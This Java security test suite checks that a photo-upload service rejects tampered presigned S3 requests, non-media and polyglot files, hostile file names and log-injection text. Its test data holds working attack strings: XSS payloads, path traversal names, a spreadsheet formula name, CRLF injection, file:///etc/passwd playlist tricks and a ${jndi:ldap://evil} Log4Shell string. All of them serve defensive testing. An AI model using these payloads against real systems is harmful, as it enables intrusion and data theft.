package io.albumen.photo.upload;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.albumen.photo.testing.Photographer;
import io.albumen.photo.testing.Photographer.LocalFile;
import io.albumen.photo.testing.Stack;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;
import java.net.URI;
import java.util.ArrayList;
import java.util.Collections;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.logging.Handler;
import java.util.logging.Level;
import java.util.logging.LogRecord;
import java.util.stream.Stream;
import org.jboss.logmanager.LogContext;
import org.jboss.logmanager.formatters.PatternFormatter;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Files and their names on the way in; what comes in parts is {@link PartsTest}'s. */
@QuarkusTest
@Stack
class UploadAttackTest {
  private final Photographer ada = Photographer.stranger();
  private final Photographer bob = Photographer.stranger();

  @Test
  void attack26OtherBytesThanWereAnnouncedAreRefused() {
    var file = LocalFile.photo("a.jpg");
    var minted = ada.mint(file);

    for (var length : List.of(0, 1, file.bytes().length - 1, file.bytes().length + 1)) {
      assertThat(Photographer.put(minted, 0, new byte[length])).isIn(400, 403);
    }
    assertThat(Photographer.put(minted, 0, new byte[file.bytes().length])).isEqualTo(400);
    assertNothingCame(minted);
    assertThat(Photographer.put(minted, 0, file.bytes())).isEqualTo(200);
  }

  @ParameterizedTest
  @CsvSource({
    "Content-Type, text/html",
    "Content-Disposition, inline",
    "x-amz-checksum-sha256, 47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=",
    "x-amz-acl, public-read",
    "x-amz-grant-read, uri=http://acs.amazonaws.com/groups/global/AllUsers",
    "x-amz-meta-owner, somebody",
    "x-amz-tagging, a=b",
    "x-amz-storage-class, GLACIER",
    "x-amz-website-redirect-location, https://evil.example/",
    "x-amz-object-lock-mode, COMPLIANCE",
    "x-amz-copy-source, albumen-media/originals/x"
  })
  void attack26OtherHeadersThanWereSignedAreRefused(String name, String value) {
    var file = LocalFile.photo("a.jpg");
    var minted = ada.mint(file);
    var url = minted.getString("results[0].put.url");
    Map<String, String> headers = minted.getMap("results[0].put.headers");

    assertThat(Photographer.put(url, with(headers, name, value), file.bytes())).isEqualTo(403);

    assertNothingCame(minted);
  }

  @Test
  void attack26NothingSignedMayBeLeftOutOrChangedInTheUrl() {
    var file = LocalFile.photo("a.jpg");
    var minted = ada.mint(file, LocalFile.photo("b.jpg"));
    var url = minted.getString("results[0].put.url");
    var other = URI.create(minted.getString("results[1].put.url"));
    Map<String, String> headers = minted.getMap("results[0].put.headers");

    for (var name : headers.keySet()) {
      assertThat(Photographer.put(url, without(headers, name), file.bytes())).isIn(400, 403);
    }
    var forged =
        List.of(
            url.replace(URI.create(url).getRawPath(), other.getRawPath()),
            url.replaceFirst("X-Amz-Expires=[0-9]+", "X-Amz-Expires=604800"),
            url + "&x-amz-acl=public-read",
            url + "&acl",
            url.replaceFirst("X-Amz-Signature=[0-9a-f]{8}", "X-Amz-Signature=00000000"));
    for (var wrong : forged) {
      assertThat(Photographer.put(wrong, headers, file.bytes())).as(wrong).isIn(400, 403);
    }
    assertNothingCame(minted);
  }

  private void assertNothingCame(JsonPath minted) {
    var id = minted.getString("results[0].uploadId");
    assertThat(ada.complete(id).getString("results[0].problem.code"))
        .isEqualTo("upload-incomplete");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<!doctype html><script>alert(1)</script>",
        "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>",
        "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>",
        "%PDF-1.7",
        "%!PS-Adobe-3.0 EPSF-3.0",
        "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://evil.example/)'",
        "#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n",
        "ffconcat version 1.0\nfile /etc/passwd\n",
        "MIME-Version: 1.0\nContent-Type: multipart/related"
      })
  void attack27And39And40WhatIsNoMediaIsRefusedUnderAPhotosName(String content) {
    var bytes = (content + UUID.randomUUID()).getBytes(UTF_8);
    var id = ada.send(new LocalFile("holiday.jpg", "image/jpeg", bytes));

    for (var attempt = 0; attempt < 2; attempt++) {
      var completed = ada.complete(id);
      assertThat(completed.getString("results[0].problem.code")).isEqualTo("content-type-mismatch");
      assertThat(completed.getString("results[0].problem.detail")).contains("holiday.jpg");
    }
    assertThat(ada.get("/api/v1/timeline/buckets").getList("$")).isEmpty();
  }

  /** Media at first sight, and something else to whoever looks for that. */
  static Stream<LocalFile> polyglots() {
    return Stream.of(
        polyglot("a.jpg", "GIF89a/*", "*/=1;alert(1)//<script>alert(1)</script>"),
        polyglot("b.html", "\u00ff\u00d8\u00ff\u00e0", "<!doctype html><script>alert(1)</script>"),
        polyglot("c.svg", "\u0089PNG\r\n\u001a\n\0\0\0\rIHDR", "<svg onload=alert(1)>"),
        polyglot("d.hta", "RIFF\u00ff\u00ff\0\0WEBPVP8 ", "<script>alert(1)</script>"));
  }

  private static LocalFile polyglot(String name, String head, String tail) {
    var unique = "/* %s */".formatted(UUID.randomUUID());
    return new LocalFile(name, "image/jpeg", (head + tail + unique).getBytes(ISO_8859_1));
  }

  @ParameterizedTest
  @MethodSource("polyglots")
  void attack27PolyglotsAreNeverServedAsSomethingActive(LocalFile file) {
    var media = ada.upload(file);

    for (var purpose : List.of("", "&download=true")) {
      var link = ada.get("/api/v1/media/{0}/content?variant=original" + purpose, media);
      var url = link.getString("url");
      var served = Photographer.open(url).headers();

      assertThat(served.firstValue("Content-Type").orElseThrow())
          .matches("image/(gif|jpeg|png|webp)");
      assertThat(served.firstValue("Content-Disposition").orElseThrow()).startsWith("attachment");
      for (var said :
          List.of("response-content-type=text/html", "response-content-disposition=x")) {
        assertThat(Photographer.open(url + "&" + said).statusCode()).isIn(400, 403);
      }
    }
  }

  @ParameterizedTest
  @CsvSource({
    "../../../etc/passwd.jpg, passwd.jpg",
    "..\\..\\boot.jpg, boot.jpg",
    "%2e%2e%2f%2e%2e%2fa.jpg, %2e%2e%2f%2e%2e%2fa.jpg",
    ".jpg, unnamed.jpg",
    "nul.jpg, _nul.jpg",
    "AUX, _AUX",
    "=cmd()|calc!A0.jpg, =cmd()|calc!A0.jpg"
  })
  void attack28NamesReachNoKeyAndNoPath(String announced, String kept) {
    assertNamed(announced, kept);
  }

  @Test
  void attack28ControlCharactersAndTurnedTextAreDropped() {
    assertNamed("a\0b.jpg", "ab.jpg");
    assertNamed("holiday\u202Egpj.exe.jpg", "holidaygpj.exe.jpg");
    assertNamed("a\r\nSet-Cookie: b.jpg", "aSet-Cookie: b.jpg");
    assertNamed("a\u001b[31m.jpg", "a[31m.jpg");
  }

  @Test
  void attack28AThousandBytesAreShortenedAndMoreRefused() {
    assertNamed("x".repeat(1020) + ".jpg", "x".repeat(196) + ".jpg");
    var refused = ada.mint(LocalFile.photo("x".repeat(1021) + ".jpg"));

    assertThat(refused.getString("results[0].problem.code")).isEqualTo("bad-file-name");
    assertThat(refused.getString("results[0].problem.detail")).hasSizeLessThan(300);
  }

  private void assertNamed(String announced, String kept) {
    var file = LocalFile.photo(announced);
    var minted = ada.mint(file);
    assertThat(minted.getString("results[0].objectKey"))
        .matches("originals/%s/[0-9]{4}/[0-9]{2}/[0-9]{2}/[0-9a-f-]{36}".formatted(ada.id()));
    Photographer.put(minted, 0, file.bytes());
    var completed = ada.complete(minted.getString("results[0].uploadId"));
    var media = completed.getString("results[0].mediaId");

    assertThat(ada.get("/api/v1/media/{0}", media).getString("name")).isEqualTo(kept);
    var link = ada.get("/api/v1/media/{0}/content?variant=original&download=true", media);
    assertThat(
            Photographer.open(link.getString("url"))
                .headers()
                .firstValue("Content-Disposition")
                .orElseThrow())
        .matches(
            "attachment; filename=\"[ !#-\\[\\]-~]*\"; filename\\*=UTF-8''[A-Za-z0-9!#$&+.^_`|~%-]*");
  }

  @Test
  void attack29WhatWasNeverAnnouncedOrIsForeignIsNotCompleted() {
    var foreign = bob.send(LocalFile.photo("b.jpg"));
    var own = ada.send(LocalFile.photo("a.jpg"));
    var abandoned = ada.send(LocalFile.photo("c.jpg"));
    ada.request().delete("/api/v1/uploads/{0}", abandoned).then().statusCode(204);

    var completed = ada.complete(UUID.randomUUID(), foreign, abandoned, own);

    assertThat(completed.getList("results.status"))
        .containsExactly("FAILED", "FAILED", "FAILED", "OK");
    assertThat(completed.getList("results.problem.code"))
        .containsExactly("upload-not-found", "upload-not-found", "upload-not-found");
    assertThat(bob.complete(foreign).getString("results[0].status")).isEqualTo("OK");
    assertThat(bob.get("/api/v1/usage").getLong("storageBytes")).isPositive();
  }

  @Test
  void attack29And31WhatIsConsumedGivesItsAnswerAndIsNotGivenUp() {
    var file = LocalFile.photo("a.jpg");
    var id = ada.send(file);

    var media =
        ada.complete(Collections.nCopies(20, id).toArray()).<Object>getList("results.mediaId");
    ada.request().delete("/api/v1/uploads/{0}", id).then().statusCode(409);
    ada.request().post("/api/v1/uploads/{0}/renew", id).then().statusCode(409);

    assertThat(media).hasSize(20).containsOnly(ada.complete(id).getString("results[0].mediaId"));
    assertUsed(file.bytes().length);
  }

  @Test
  void attack30AUrlUsedAgainChangesNoBytes() {
    var file = LocalFile.photo("a.jpg");
    var minted = ada.mint(file);
    assertThat(Photographer.put(minted, 0, file.bytes())).isEqualTo(200);
    assertThat(Photographer.put(minted, 0, file.bytes())).isEqualTo(412);
    var id = minted.getString("results[0].uploadId");
    var media = ada.complete(id).getString("results[0].mediaId");

    assertThat(Photographer.put(minted, 0, file.bytes())).isEqualTo(412);
    assertThat(Photographer.put(minted, 0, LocalFile.photo("b.jpg").bytes())).isIn(400, 412);

    var link = ada.get("/api/v1/media/{0}/content?variant=original", media).getString("url");
    var served = new LocalFile("", "", Photographer.open(link).body());
    assertThat(served.sha256())
        .isEqualTo(ada.get("/api/v1/media/{0}", media).getString("sha256"))
        .isEqualTo(file.sha256());
  }

  @Test
  void attack31NothingAndHalfOfItAreNotTaken() {
    var empty = ada.mint(new LocalFile("empty.jpg", "image/jpeg", new byte[0]));
    assertThat(empty.getString("results[0].problem.code")).isEqualTo("file-empty");

    var file = LocalFile.photo("a.jpg");
    var minted = ada.mint(file);
    for (var length : List.of(0, file.bytes().length / 2)) {
      assertThat(Photographer.put(minted, 0, new byte[length])).isIn(400, 403);
    }

    assertNothingCame(minted);
    assertUsed(0);
  }

  @Test
  void attack34TheSameBatchAHundredTimesIsOneBatch() {
    var files =
        List.of(LocalFile.photo("a.jpg"), LocalFile.photo("b.jpg")).toArray(LocalFile[]::new);
    var bytes = (long) files[0].bytes().length + files[1].bytes().length;
    var first = ada.mint(files).getList("results.uploadId");
    for (var i = 0; i < 100; i++) {
      assertThat(ada.mint(files).getList("results.uploadId")).isEqualTo(first);
    }
    assertThat(ada.get("/api/v1/usage").getLong("today.reservedBytes")).isEqualTo(bytes);
    for (var i = 0; i < files.length; i++) {
      ada.send(files[i]);
    }

    for (var i = 0; i < 100; i++) {
      assertThat(ada.complete(first.toArray()).getList("results.status")).containsOnly("OK");
      assertThat(ada.mint(files).getList("results.status")).containsOnly("DUPLICATE");
    }

    assertThat(ada.get("/api/v1/timeline/buckets").getList("count")).containsExactly(2);
    assertUsed(bytes);
  }

  private void assertUsed(long bytes) {
    assertThat(ada.get("/api/v1/usage").getLong("storageBytes")).isEqualTo(bytes);
  }

  /** Refused, taken, looked for and taken along under the worst of names. */
  @Test
  void attack42NoTextOfUsersReachesTheLog() {
    var text = "${jndi:ldap://evil} \u001b[31m\r\n2026-01-01 ERROR forged <img onerror>.jpg";
    var lines = new Lines();
    var logger = LogContext.getLogContext().getLogger("io.albumen");
    var level = logger.getLevel();
    logger.setLevel(Level.ALL);
    logger.addHandler(lines);
    try {
      ada.complete(ada.send(new LocalFile(text, "image/jpeg", text.getBytes(UTF_8))));
      ada.mint(new LocalFile(text, text, new byte[1]));
      var media = ada.upload(LocalFile.photo(text));
      var edit = Map.of("title", "${jndi:ldap://evil} ERROR forged", "tags", List.of("forged"));
      ada.request().body(edit).patch("/api/v1/media/{0}", media).then().statusCode(200);
      ada.request().queryParam("q", text).get("/api/v1/search").then().statusCode(200);
      ada.request()
          .body(Map.of("mediaIds", List.of(media), "name", text))
          .post("/api/v1/downloads")
          .then()
          .statusCode(202);
    } finally {
      logger.removeHandler(lines);
      logger.setLevel(level);
    }

    assertThat(lines.written).anyMatch(line -> line.startsWith("uploads completed"));
    assertThat(lines.written)
        .noneMatch(line -> line.matches("(?s).*(jndi|forged|onerror|\u001b).*"));
  }

  private static final class Lines extends Handler {
    private final List<String> written = Collections.synchronizedList(new ArrayList<>());
    private final PatternFormatter formatter = new PatternFormatter("%s%e");

    @Override
    public void publish(LogRecord line) {
      written.add(formatter.format(line));
    }

    @Override
    public void flush() {}

    @Override
    public void close() {}
  }

  private static Map<String, String> with(Map<String, String> headers, String name, String value) {
    var changed = new HashMap<>(without(headers, name));
    changed.put(name, value);
    return changed;
  }

  private static Map<String, String> without(Map<String, String> headers, String name) {
    var changed = new HashMap<>(headers);
    changed.keySet().removeIf(name::equalsIgnoreCase);
    return changed;
  }
}
